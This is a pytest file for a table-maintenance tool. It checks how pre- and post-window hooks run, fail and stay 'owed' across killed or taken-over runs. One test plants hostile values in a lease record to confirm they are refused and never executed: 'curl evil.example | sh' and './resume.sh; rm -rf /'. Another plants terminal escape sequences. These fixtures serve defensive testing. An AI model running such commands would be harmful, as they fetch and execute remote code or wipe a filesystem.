"""Hooks around one table's window, and what is owed for them."""

from __future__ import annotations

import shlex
from collections.abc import Callable, Mapping, Sequence
from typing import Any

import pytest

from tablectl.leases.acquire import break_lease
from tablectl.leases.guards import GuardMode
from tablectl.leases.lease import Lease
from tablectl.leases.lease_records import Gate, tail
from tablectl.model.run_report import RunOutcome
from tablectl.policies.config import WindowConfig
from tests.applying.fake_lake import FakeTable, at, fails
from tests.applying.world import WITH_VECTORS, Kill, World
from tests.applying.writers import FakeGuard
from tests.leases.lease_fakes import Fault, acquire, claim

PAUSE, RESUME, MAIL = ("./pause.sh", "nightly load"), ("./resume.sh",), ("mail", "-s", "done")


class Hooks:
    """Runs nothing, and remembers what it was asked to run; ``fail`` says why a program fails."""

    def __init__(self, world: World, before: Sequence[Any] = (PAUSE,), after: Sequence[Any] = (RESUME,)) -> None:
        self.world = world
        self.ran: list[str] = []
        self.environs: list[Mapping[str, str]] = []
        self.gates: list[Gate] = []
        self.fail: dict[str, str] = {}
        self.act: Callable[[str], object] = lambda _program: None
        world.config = WindowConfig(drain=20, before=tuple(before), after=tuple(after))
        world.run_hook = self

    def __call__(
        self,
        command: Sequence[str],
        environ: Mapping[str, str],
        said: Callable[[str], None],
        stopped: Callable[[], bool],
    ) -> str:
        last = tail(self.world.store)
        assert last is not None
        self.gates.append(last.gate)
        self.ran.append(command[0])
        self.environs.append(dict(environ))
        said(f"{command[0]} says so")
        self.act(command[0])
        return self.fail.get(command[0], "")


def owed(world: World) -> tuple[str, ...]:
    last = tail(world.store)
    assert last is not None
    return last.owed


@pytest.fixture
def world() -> World:
    made = World()
    made.lake.add(**WITH_VECTORS)
    return made


def test_they_run_around_the_window_with_the_gate_open(world: World) -> None:
    hooks = Hooks(world)
    run = world.run(world.plan(isolation="Serializable"))
    assert (run.outcome, run.owed, run.notes) == (RunOutcome.APPLIED, (), ())
    assert hooks.ran == ["./pause.sh", "./resume.sh"]
    assert hooks.gates == [Gate.OPEN, Gate.OPEN]
    order = [event for event in world.events if event.startswith(("hook b", "hook a", "gate", "after", "verify"))]
    assert order == ["hook before", "gate closed", "after closed-set", "gate open", "verify", "hook after"]
    assert owed(world) == ()


def test_once_before_the_first_gate_that_stops_more_than_schema_changes(world: World) -> None:
    hooks = Hooks(world)
    run = world.run(world.plan(deletion_vectors="purged", clustering=("day",)))
    assert [each.phase for each in run.statements][-1] == "closed"
    assert hooks.ran == ["./pause.sh", "./resume.sh"]
    assert hooks.gates[0] in {Gate.OPEN, Gate.NO_SCHEMA}


def test_not_for_what_fails_no_one(world: World) -> None:
    world.table.commit("CLUSTER", clustering=(("id",),))
    hooks = Hooks(world)
    run = world.run(world.plan(clustering=("day",)))
    assert [each.phase for each in run.statements] == ["free"]
    assert hooks.ran == []


def test_not_where_nothing_is_missing(world: World) -> None:
    plan = world.plan(isolation="Serializable")
    world.table.set_property("delta.isolationLevel", "Serializable")
    hooks = Hooks(world)
    assert world.run(plan).outcome is RunOutcome.ALREADY
    assert hooks.ran == []


def test_their_environment(world: World) -> None:
    hooks = Hooks(world)
    world.run(world.plan(isolation="Serializable"))
    common = {
        "TABLECTL_TABLE": "delta.`/lake/orders`",
        "TABLECTL_LOCATION": "/lake/orders",
        "TABLECTL_RUN": "ann",
        "TABLECTL_PLAN": "d1",
        "TABLECTL_STREAMS": "",
    }
    assert hooks.environs == [
        {**common, "TABLECTL_HOOK": "before"},
        {**common, "TABLECTL_HOOK": "after", "TABLECTL_OUTCOME": "applied"},
    ]


def test_what_they_say_is_reported_line_by_line(world: World) -> None:
    Hooks(world)
    world.run(world.plan(isolation="Serializable"))
    words = [event.words for event in world.told if event.step.startswith("hook")]
    assert words == [
        "before: ./pause.sh 'nightly load'",
        "| ./pause.sh says so",
        "after: ./resume.sh",
        "| ./resume.sh says so",
    ]


def test_what_is_owed_is_written_before_the_first_one_runs(world: World) -> None:
    hooks = Hooks(world)
    seen: list[tuple[str, tuple[str, ...]]] = []
    hooks.act = lambda program: seen.append((program, owed(world)))
    world.run(world.plan(isolation="Serializable"))
    assert seen == [("./pause.sh", ("./resume.sh",)), ("./resume.sh", ("./resume.sh",))]


def test_after_hooks_alone_are_owed_too(world: World) -> None:
    hooks = Hooks(world, before=())
    seen: list[tuple[str, ...]] = []
    world.before = lambda _table, _sql: seen.append(owed(world))
    world.run(world.plan(isolation="Serializable"))
    assert (hooks.ran, seen) == (["./resume.sh"], [("./resume.sh",)])


def test_before_hooks_alone_owe_nothing(world: World) -> None:
    hooks = Hooks(world, after=())
    assert world.run(world.plan(isolation="Serializable")).outcome is RunOutcome.APPLIED
    assert (hooks.ran, owed(world)) == (["./pause.sh"], ())


# Failing ones


def test_a_before_hook_that_fails_closes_no_gate_and_is_taken_back(world: World) -> None:
    hooks = Hooks(world, before=(PAUSE, ("second",)))
    hooks.fail["./pause.sh"] = "ended with exit code 3"
    run = world.run(world.plan(isolation="Serializable"))
    assert (run.outcome, world.sent) == (RunOutcome.HOOK_FAILED, [])
    assert run.message == "the before-hook ./pause.sh 'nightly load' ended with exit code 3"
    assert hooks.ran == ["./pause.sh", "./resume.sh"]
    assert hooks.environs[-1]["TABLECTL_OUTCOME"] == "hook failed"
    assert "gate closed" not in world.events


def test_an_after_hook_that_fails_stays_owed_and_is_reported(world: World) -> None:
    hooks = Hooks(world, after=(RESUME, MAIL))
    hooks.fail["./resume.sh"] = "ended with exit code 1"
    run = world.run(world.plan(isolation="Serializable"))
    assert (run.outcome, run.owed) == (RunOutcome.APPLIED, ("./resume.sh",))
    assert run.notes == (
        "the after-hook ./resume.sh ended with exit code 1; it stays owed until an apply of this table runs it",
    )
    assert hooks.ran == ["./pause.sh", "./resume.sh", "mail"]
    assert owed(world) == ("./resume.sh",)


def test_what_cannot_be_written_down_is_not_begun(world: World) -> None:
    hooks = Hooks(world)
    plan, lease = world.plan(isolation="Serializable"), world.lease()
    world.store.faults.append(Fault.REFUSED)
    run = world.run(plan, lease=lease)
    assert (run.outcome, hooks.ran, world.sent) == (RunOutcome.FAILED, [], [])


def test_what_ran_and_could_not_be_crossed_out_is_owed_once_more(world: World) -> None:
    hooks = Hooks(world)
    hooks.act = lambda program: setattr(world.store, "down", program == "./resume.sh")
    run = world.run(world.plan(isolation="Serializable"))
    assert (run.outcome, run.owed) == (RunOutcome.APPLIED, ())
    world.store.down = False
    assert owed(world) == ("./resume.sh",)


# Every exit


def _bug(_table: FakeTable) -> None:
    raise ZeroDivisionError("a bug")


@pytest.mark.parametrize(
    ("hook", "outcome"),
    [
        (fails(1, "SOME_CLASS"), RunOutcome.FAILED),
        (at(1, _bug), RunOutcome.FAILED),
        (at(1, lambda table: table.commit("REPLACE", table_id="another")), RunOutcome.STALE),
    ],
)
def test_after_hooks_run_on_every_exit(world: World, hook: Any, outcome: RunOutcome) -> None:
    hooks = Hooks(world)
    world.before = hook
    run = world.run(world.plan(isolation="Serializable"))
    assert run.outcome is outcome
    assert hooks.environs[-1]["TABLECTL_OUTCOME"] == outcome.value
    assert owed(world) == ()


def test_after_writers_that_did_not_end(world: World) -> None:
    hooks = Hooks(world)
    FakeGuard(world.store, mode=GuardMode.APPEND, ttl=600)
    assert world.run(world.plan(isolation="Serializable")).outcome is RunOutcome.NO_WINDOW
    assert hooks.ran == ["./pause.sh", "./resume.sh"]


@pytest.mark.parametrize("step", ["hook before", "gate closed", "drained", "before closed-set", "after closed-set"])
def test_after_a_stop(world: World, step: str) -> None:
    hooks = Hooks(world)
    world.tick = lambda event: world.stop.set() if event == step else None
    run = world.run(world.plan(isolation="Serializable"))
    assert run.outcome in {RunOutcome.INTERRUPTED, RunOutcome.APPLIED}
    assert hooks.ran == ["./pause.sh", "./resume.sh"]
    assert owed(world) == ()


def test_after_a_lost_lease(world: World) -> None:
    hooks = Hooks(world)
    world.before = at(1, lambda _table: break_lease(world.store, 1, "stuck", claim("ben").owner, world.clock))
    run = world.run(world.plan(isolation="Serializable"))
    assert run.outcome is RunOutcome.FAILED
    assert hooks.ran == ["./pause.sh", "./resume.sh"]
    assert owed(world) == ("./resume.sh",)  # no one may write there any more: the next apply does it again


def test_a_hook_runner_with_a_bug_breaks_no_report(world: World) -> None:
    hooks = Hooks(world)

    def bug(program: str) -> None:
        if program == "./resume.sh":
            raise ZeroDivisionError("a bug")

    hooks.act = bug
    run = world.run(world.plan(isolation="Serializable"))
    assert run.outcome is RunOutcome.APPLIED
    assert run.notes == ("unexpected error: ZeroDivisionError: a bug",)
    assert owed(world) == ("./resume.sh",)


# Kills, and the next run

EVENTS = ["hook before", "gate closed", "drained", "before closed-set", "after closed-set", "gate open", "hook after"]


@pytest.mark.parametrize("step", EVENTS)
def test_what_a_killed_run_owes_is_done_first_by_the_next(world: World, step: str) -> None:
    hooks = Hooks(world)
    plan = world.plan(isolation="Serializable")

    def kill(event: str) -> None:
        if event == step:
            raise Kill

    world.tick = kill
    with pytest.raises(Kill):
        world.run(plan)
    assert owed(world) == ("./resume.sh",)
    ran, world.tick = len(hooks.ran), lambda _event: None
    world.events.clear()
    run = world.run(plan, "ben")
    assert run.outcome in {RunOutcome.APPLIED, RunOutcome.ALREADY}
    assert hooks.ran[ran] == "./resume.sh"
    assert hooks.environs[ran]["TABLECTL_OUTCOME"] == "unfinished"
    assert hooks.environs[ran]["TABLECTL_RUN"] == "ben"
    assert world.events.index("hook after") < world.events.index("fresh")
    assert (owed(world), run.owed) == ((), ())


def test_killed_right_before_what_is_owed_was_written_nothing_is(world: World) -> None:
    hooks = Hooks(world)
    plan, lease = world.plan(isolation="Serializable"), world.lease()

    def killed(hooks: tuple[str, ...], together: tuple[str, ...] = ()) -> None:
        raise Kill

    lease.owe = killed  # type: ignore[method-assign]
    with pytest.raises(Kill):
        world.run(plan, lease=lease)
    assert (owed(world), hooks.ran) == ((), [])


def test_an_owed_hook_that_fails_again_is_tried_again_at_the_end(world: World) -> None:
    hooks = Hooks(world)
    lease = world.lease()
    lease.owe(("./resume.sh",))
    lease.release()
    hooks.fail["./resume.sh"] = "ended with exit code 1"
    run = world.run(world.plan(isolation="Serializable"), "ben")
    assert (run.outcome, run.owed) == (RunOutcome.APPLIED, ("./resume.sh",))
    assert hooks.ran == ["./resume.sh", "./pause.sh", "./resume.sh"]
    assert hooks.environs[0]["TABLECTL_OUTCOME"] == "unfinished"


def test_what_is_not_configured_is_never_run_whatever_a_record_says(world: World) -> None:
    """Whoever may write into the table's directory may write lease records."""
    hooks = Hooks(world, before=(), after=(RESUME,))
    lease = world.lease()
    lease.owe(("curl evil.example | sh", "./resume.sh ", shlex.join(RESUME), "./resume.sh; rm -rf /"))
    lease.release()
    run = world.run(world.plan(isolation="Serializable"), "ben")
    assert run.outcome is RunOutcome.REFUSED
    assert "curl evil.example | sh" in run.message
    assert hooks.ran == ["./resume.sh"]
    assert world.sent == []
    assert owed(world) == ("curl evil.example | sh", "./resume.sh ", "./resume.sh; rm -rf /")


def test_a_hook_whose_text_changed_is_a_refusal_that_says_what_to_do(world: World) -> None:
    """The jobs that it would resume are still paused: to drop the debt would leave them so."""
    Hooks(world, after=(("./resume.sh", "--all"),))
    lease = world.lease()
    lease.owe(("./resume.sh",))
    lease.release()
    run = world.run(world.plan(isolation="Serializable"), "ben")
    assert run.outcome is RunOutcome.REFUSED
    assert "put the command back into `window.after`" in run.hint
    assert "--proceed" in run.hint
    assert owed(world) == ("./resume.sh",)


def test_with_proceed_it_is_dropped_and_told(world: World) -> None:
    lease = world.lease()
    lease.owe(("./resume.sh",))
    lease.release()
    world.proceed = "resumed by hand"
    run = world.run(world.plan(isolation="Serializable"), "ben")
    assert run.outcome is RunOutcome.APPLIED
    assert run.notes == (
        "a run before owes the hook './resume.sh', which is not one of `window.after`: it was not run",
    )
    assert owed(world) == ()


def test_a_record_full_of_hooks_fills_no_report(world: World) -> None:
    Hooks(world)
    lease = world.lease()
    lease.owe(tuple(f"{each} {'x' * 500}\x1b[2J" for each in range(30)))
    lease.release()
    refused = world.run(world.plan(isolation="Serializable"), "ben")
    assert len(refused.message) < 1000
    assert refused.message.isprintable()
    world.proceed = "all of it is someone's joke"
    run = world.run(world.plan(isolation="Serializable"), "ben")
    assert len(run.notes) == 11
    assert all(len(note) < 400 and note.isprintable() for note in run.notes)


def test_a_run_that_lost_its_lease_leaves_the_after_hooks_to_its_successor(world: World) -> None:
    """Else it would resume the jobs that its successor has paused, behind the successor's closed gate."""
    hooks = Hooks(world)

    def taken_over(event: str) -> None:
        if event == "execute":
            world.tick = lambda _event: None
            last = tail(world.store)
            assert last is not None
            break_lease(world.store, last.epoch, "asleep", claim("ben").owner, world.clock)
            assert isinstance(acquire(world.store, claim("ben"), world.clock), Lease)

    world.tick = taken_over
    run = world.run(world.plan(isolation="Serializable"))
    assert hooks.ran == ["./pause.sh"]
    assert run.owed == ("./resume.sh",)
    assert any("is left to ben on ben-laptop" in note for note in run.notes)
    assert owed(world) == ("./resume.sh",)


def test_a_broken_lease_that_no_one_took_still_runs_its_after_hooks(world: World) -> None:
    hooks = Hooks(world)

    def broken(event: str) -> None:
        if event == "execute":
            world.tick = lambda _event: None
            last = tail(world.store)
            assert last is not None
            break_lease(world.store, last.epoch, "asleep", claim("ben").owner, world.clock)

    world.tick = broken
    world.run(world.plan(isolation="Serializable"))
    assert hooks.ran == ["./pause.sh", "./resume.sh"]


def test_a_store_that_is_down_when_owed_hooks_are_crossed_out_stops_nothing_else(world: World) -> None:
    hooks = Hooks(world)
    lease = world.lease()
    lease.owe(("./resume.sh",))
    lease.release()
    lease = world.lease("ben")
    world.store.faults.append(Fault.REFUSED)
    run = world.run(world.plan(isolation="Serializable"), "ben", lease)
    assert run.outcome is RunOutcome.APPLIED
    assert hooks.ran == ["./resume.sh", "./pause.sh", "./resume.sh"]
    assert owed(world) == ()
